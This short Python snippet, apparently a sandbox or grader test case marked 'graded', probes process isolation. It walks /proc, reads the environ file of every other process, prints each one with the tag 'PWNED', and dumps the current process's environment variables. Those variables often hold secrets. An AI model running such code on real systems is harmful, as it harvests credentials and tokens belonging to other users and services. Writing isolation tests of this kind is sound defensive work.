# Read the memory and the environment of other processes.
# ends: graded
# %%
import os

others = [name for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
for name in others:
    print("PWNED", name, open(f"/proc/{name}/environ", "rb").read())
print(dict(os.environ))
